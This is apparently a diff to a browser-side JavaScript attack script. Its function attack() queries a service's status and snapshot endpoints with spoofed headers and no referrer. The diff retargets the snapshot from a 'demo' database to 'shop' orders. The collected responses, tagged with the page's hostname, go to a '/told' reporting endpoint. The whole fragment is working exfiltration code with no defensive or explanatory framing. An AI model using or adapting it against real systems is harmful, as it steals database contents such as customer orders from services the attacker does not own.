@@ -19,7 +19,7 @@ async function attack() {
   const all = [
     await status('/v1/status'),
     await status('/v1/status', {referrerPolicy: 'no-referrer', headers: {'User-Agent': 'curl/8.0', 'Accept-Language': ''}}),
-    await status('/v1/snapshot?db=demo&coll=orders', {referrerPolicy: 'no-referrer', headers: {'User-Agent': '', 'Accept-Language': ''}}),
+    await status('/v1/snapshot?db=shop&coll=orders', {referrerPolicy: 'no-referrer', headers: {'User-Agent': '', 'Accept-Language': ''}}),
   ];
   await fetch(`/told?${location.hostname}=${all}`);
 }
